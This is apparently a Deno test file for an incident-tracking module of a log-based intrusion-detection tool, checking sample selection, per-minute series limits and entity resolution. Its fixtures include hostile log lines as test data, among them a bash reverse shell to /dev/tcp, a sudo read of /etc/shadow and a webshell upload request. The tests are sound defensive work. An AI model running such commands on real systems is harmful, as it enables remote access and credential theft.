/** @module One incident's state: samples stay representative, the series stays bounded. */
import assert from "node:assert/strict";
import { absorb, LIMITS, openIncident } from "./incident.ts";
import { hitOf, sshFail } from "./test_hits.ts";
import { entityOf } from "./entity.ts";
import { parseFields } from "../formats/fields.ts";

const T0 = Date.UTC(2026, 11, 1, 7);

Deno.test("Samples - first, last and the distinct shapes, not the first N", () => {
  const inc = openIncident(
    "i1",
    hitOf("web_scan", '1.2.3.4 - - [x] "GET /a1 HTTP/1.1" 404 1', T0),
    [],
  );
  for (let i = 2; i <= 500; i++) {
    absorb(inc, hitOf("web_scan", `1.2.3.4 - - [x] "GET /a${i} HTTP/1.1" 404 1`, T0 + i));
  }
  absorb(inc, hitOf("web_scan", '1.2.3.4 - - [x] "GET /.git/config HTTP/1.1" 404 1', T0 + 501));
  absorb(inc, hitOf("web_scan", '1.2.3.4 - - [x] "GET /a9 HTTP/1.1" 404 1', T0 + 502));
  const why = inc.samples.map((s) => s.why);
  assert.equal(why[0], "first");
  assert.equal(why.at(-1), "last");
  assert.equal(inc.samples[0].line.includes("/a1 "), true);
  assert.equal(inc.samples.at(-1)!.line.includes("/a9 "), true);
  // 500 lines of one shape give no distinct sample; the odd one out is kept.
  const distinct = inc.samples.filter((s) => s.why === "distinct").map((s) => s.line);
  assert.deepEqual(distinct, ['1.2.3.4 - - [x] "GET /.git/config HTTP/1.1" 404 1']);
  assert.equal(inc.count, 502);
});

Deno.test("Samples - distinct slots are bounded and keep the most different shapes", () => {
  const inc = openIncident("i1", hitOf("web_exploit", "GET /a b c d", T0), []);
  const shapes = [
    "GET /a b c e",
    "GET /a b c f",
    "GET /a b c g",
    "GET /a b c h",
    "GET /a b c i",
    "GET /a b c j",
    "POST /upload.php shell webshell cmd",
    "GET /a b c k",
    "end",
  ];
  shapes.forEach((l, i) => absorb(inc, hitOf("web_exploit", l, T0 + i + 1)));
  const distinct = inc.samples.filter((s) => s.why === "distinct").map((s) => s.line);
  assert.equal(distinct.length, LIMITS.distinctSamples);
  assert.ok(distinct.includes("POST /upload.php shell webshell cmd"));
});

Deno.test("Incident - the per-minute series is bounded to the newest minutes", () => {
  const inc = openIncident("i1", hitOf("credential_access", sshFail(0), T0), []);
  for (let m = 1; m <= 300; m++) {
    absorb(inc, hitOf("credential_access", sshFail(m), T0 + m * 60_000));
  }
  assert.equal(inc.perMinute.length, LIMITS.perMinute);
  assert.equal(inc.perMinuteStart, T0 + (301 - LIMITS.perMinute) * 60_000);
  assert.equal(inc.perMinute.reduce((a, b) => a + b), LIMITS.perMinute);
  assert.equal(inc.firstSeen, T0);
});

Deno.test("Entity - host and user without an address, else the source", () => {
  const sudo = hitOf("privilege_escalation", "sudo: bob : TTY=pts/0 ; COMMAND=/bin/sh", T0, "web");
  assert.deepEqual(sudo.entity, { entity: "web:bob", kind: "user" });
  const plain = hitOf("command_and_control", "bash -i >& /dev/tcp/x/4444 0>&1", T0, "web");
  assert.deepEqual(plain.entity, { entity: "web", kind: "source" });
});

Deno.test("Entity - a user with a known login resolves to the login's address", () => {
  const fields = parseFields("sudo: bob : TTY=pts/0 ; COMMAND=/bin/cat /etc/shadow");
  const session = (host: string, user: string) =>
    host === "web" && user === "bob" ? "192.0.2.50" : undefined;
  assert.deepEqual(entityOf(fields, { transport: "tcp", host: "web" }, session), {
    entity: "192.0.2.50",
    kind: "ip",
  });
});
